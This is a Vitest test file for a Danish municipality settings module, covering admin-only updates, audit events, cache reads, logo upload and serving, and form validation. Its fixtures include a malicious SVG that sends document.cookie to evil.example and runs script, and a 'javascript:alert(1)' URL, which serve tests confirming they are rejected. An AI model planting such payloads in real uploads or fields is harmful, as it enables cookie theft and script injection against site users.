import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import da from '@/lib/i18n/messages/da.json';
import { png } from '@/test/png';
import type { FormState } from '@/lib/form-state';
import { anonymous, type Actor } from '@/lib/server/actor';
import { db } from '@/lib/server/db';
import { mailSignature } from '@/lib/server/mail';
import { getMunicipality, municipalityLetterhead, readMunicipalityLogo, updateMunicipality, type MunicipalityDetails } from '@/lib/server/municipality';

const session = vi.hoisted(() => ({ actor: { kind: 'anonymous' } as Actor }));
vi.mock('@/lib/server/session', () => ({ currentActor: async () => session.actor, currentUser: async () => null }));
vi.mock('next/cache', () => ({ revalidatePath: vi.fn() }));

// These tests change the one settings row; they put back what was there when they end.
const suffix = randomUUID().slice(0, 8);
let saved: { row: Awaited<ReturnType<typeof db.municipalitySettings.findUnique>> };
let admin: Actor;
let staff: Actor;

beforeAll(async () => {
  saved = { row: await db.municipalitySettings.findUnique({ where: { id: 'municipality' } }) };
  const user = (role: 'ADMIN' | 'STAFF') => db.user.create({ data: { email: `settings-${role.toLowerCase()}-${suffix}@example.test`, role } });
  admin = { kind: 'user', userId: (await user('ADMIN')).id, role: 'ADMIN' };
  staff = { kind: 'user', userId: (await user('STAFF')).id, role: 'STAFF' };
});
afterAll(async () => {
  if (saved.row) await db.municipalitySettings.update({ where: { id: 'municipality' }, data: saved.row });
  else await db.municipalitySettings.deleteMany({});
  await db.$disconnect();
});

const details = (overrides: Partial<MunicipalityDetails> = {}): MunicipalityDetails => ({
  name: `Testkommune ${suffix}`,
  contactEmail: 'budget@test.example',
  contactPhone: '43 59 10 00',
  controllerName: null,
  controllerAddress: 'Rådhuset 1, 2630 Testby',
  dpoName: 'DPO',
  dpoEmail: 'dpo@test.example',
  dpoPhone: null,
  privacyPolicyUrl: 'https://test.example/privatliv',
  accessibilityStatementUrl: null,
  ...overrides,
});
const maliciousSvg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"><rect width="1" height="1" onload="fetch(\'https://evil.example/\'+document.cookie)"/><script>alert(1)</script></svg>');
const goodSvg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"><rect width="1" height="1" fill="#0b6e80"/></svg>');

describe('updateMunicipality', () => {
  it('lets only administrators change the settings, and records a refusal', async () => {
    const politician: Actor = { kind: 'user', userId: staff.kind === 'user' ? staff.userId : '', role: 'POLITICIAN' };
    for (const actor of [anonymous, staff, politician]) {
      await expect(updateMunicipality(actor, details({ name: 'Overtaget' }))).rejects.toMatchObject({ code: 'forbidden' });
    }
    expect((await getMunicipality()).name).not.toBe('Overtaget');
    const refused = await db.auditEvent.findMany({ where: { actorId: staff.kind === 'user' ? staff.userId : '', action: 'municipality.update', outcome: 'DENIED' } });
    expect(refused.length).toBeGreaterThan(0);
  });

  it('saves what an administrator sets, for every reader, the mail signature and the documents, and audits it', async () => {
    await updateMunicipality(admin, details(), { kind: 'replace', bytes: goodSvg });
    const municipality = await getMunicipality();
    expect(municipality).toMatchObject({ ...details(), logoUrl: expect.stringMatching(/^\/api\/municipality\/logo\?v=\d+$/) });
    expect(await readMunicipalityLogo()).toEqual({ bytes: new Uint8Array(goodSvg), contentType: 'image/svg+xml' });
    expect(await mailSignature()).toBe(`Venlig hilsen\nBudgetkontoret\nTestkommune ${suffix}\nE-mail: budget@test.example\nTelefon: 43 59 10 00`);
    expect(await municipalityLetterhead()).toEqual({ name: `Testkommune ${suffix}`, contact: 'budget@test.example · 43 59 10 00' });
    const event = await db.auditEvent.findFirstOrThrow({ where: { actorId: admin.kind === 'user' ? admin.userId : '', action: 'municipality.update', outcome: 'SUCCESS' }, orderBy: { at: 'desc' } });
    expect(event.after).toMatchObject({ name: `Testkommune ${suffix}`, logo: { contentType: 'image/svg+xml', size: goodSvg.length } });
  });

  it('shows a change another app instance committed on the next read, though every page reads the settings from a cache', async () => {
    await updateMunicipality(admin, details());
    expect((await getMunicipality()).name).toBe(`Testkommune ${suffix}`);
    await db.$executeRaw`UPDATE "MunicipalitySettings" SET name = ${`Andenkommune ${suffix}`} WHERE id = 'municipality'`;
    expect((await getMunicipality()).name).toBe(`Andenkommune ${suffix}`);
    await updateMunicipality(admin, details());
    expect((await getMunicipality()).name).toBe(`Testkommune ${suffix}`);
  });

  it('refuses a malicious SVG and keeps the logo it had', async () => {
    await updateMunicipality(admin, details(), { kind: 'replace', bytes: goodSvg });
    const attempt = updateMunicipality(admin, details({ name: 'Med ondt logo' }), { kind: 'replace', bytes: maliciousSvg });
    await expect(attempt).rejects.toMatchObject({ code: 'logo.unsafeSvg' });
        expect((await readMunicipalityLogo())?.bytes).toEqual(new Uint8Array(goodSvg));
    expect((await getMunicipality()).name).toBe(`Testkommune ${suffix}`);
  });

  it('takes a PNG, and removes the logo on request', async () => {
    await updateMunicipality(admin, details(), { kind: 'replace', bytes: png(200, 60) });
    expect((await readMunicipalityLogo())?.contentType).toBe('image/png');
    await updateMunicipality(admin, details(), { kind: 'remove' });
    expect(await readMunicipalityLogo()).toBeNull();
    expect((await getMunicipality()).logoUrl).toBeNull();
  });
});

describe('the logo route', () => {
  it('serves the SVG as an image with a policy that lets nothing in it run', async () => {
    await updateMunicipality(admin, details(), { kind: 'replace', bytes: goodSvg });
    const { GET } = await import('@/app/api/municipality/logo/route');
    const response = await GET();
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('image/svg+xml');
    expect(response.headers.get('content-security-policy')).toBe("default-src 'none'; style-src 'unsafe-inline'; sandbox");
    expect(response.headers.get('x-content-type-options')).toBe('nosniff');
    expect(Buffer.from(await response.arrayBuffer())).toEqual(goodSvg);
  });
});

describe('saveMunicipalityAction', () => {
  type Action = (state: FormState, data: FormData) => Promise<FormState>;
  const save = async (fields: Record<string, string>, logo?: Buffer) => {
    const { saveMunicipalityAction } = (await import('@/app/staff/settings/actions')) as { saveMunicipalityAction: Action };
    const data = new FormData();
    for (const [key, value] of Object.entries({ name: `Testkommune ${suffix}`, ...fields })) data.set(key, value);
    if (logo) data.set('logo', new File([new Uint8Array(logo)], 'logo.svg', { type: 'image/svg+xml' }));
    return saveMunicipalityAction({ status: 'idle' }, data);
  };
  const errorsOf = (state: FormState) => (state.status === 'error' ? state.fieldErrors : {});
  /** The Danish text a key stands for; fails when the key has none. */
  const danish = (key: string) => key.split('.').reduce<unknown>((tree, part) => (tree as Record<string, unknown>)[part], da) as string;

  it('refuses wrong fields with Danish messages and keeps what was typed', async () => {
    session.actor = admin;
    const state = await save({ name: ' ', contactEmail: 'ikke-en-adresse', contactPhone: '12', privacyPolicyUrl: 'http://test.example/', accessibilityStatementUrl: 'javascript:alert(1)' });
    expect(errorsOf(state)).toEqual({ name: 'forms.required', contactEmail: 'forms.invalidEmail', contactPhone: 'settings.errors.phone', privacyPolicyUrl: 'settings.errors.url', accessibilityStatementUrl: 'settings.errors.url' });
    expect(state.status === 'error' && state.values.contactEmail).toBe('ikke-en-adresse');
    for (const key of Object.values(errorsOf(state))) expect(danish(key)).toMatch(/[a-zæøå]/);
    expect(danish('settings.errors.url')).toBe('Skriv en hel adresse, der begynder med https://.');
  });

  it('refuses a malicious SVG upload on the logo field', async () => {
    session.actor = admin;
    const state = await save({}, maliciousSvg);
    expect(errorsOf(state)).toEqual({ logo: 'settings.errors.logoUnsafe' });
  });

  it('saves for an administrator, empty optional fields as none, and refuses staff', async () => {
    session.actor = admin;
    expect(await save({ name: `Ny kommune ${suffix}`, contactEmail: '', contactPhone: '+45 43 59 10 00' })).toMatchObject({ status: 'success' });
    expect(await getMunicipality()).toMatchObject({ name: `Ny kommune ${suffix}`, contactEmail: null, contactPhone: '+45 43 59 10 00' });
    session.actor = staff;
    expect(await save({ name: 'Budgetkontorets kommune' })).toMatchObject({ status: 'error', formError: 'forms.forbidden' });
    expect((await getMunicipality()).name).toBe(`Ny kommune ${suffix}`);
  });
});
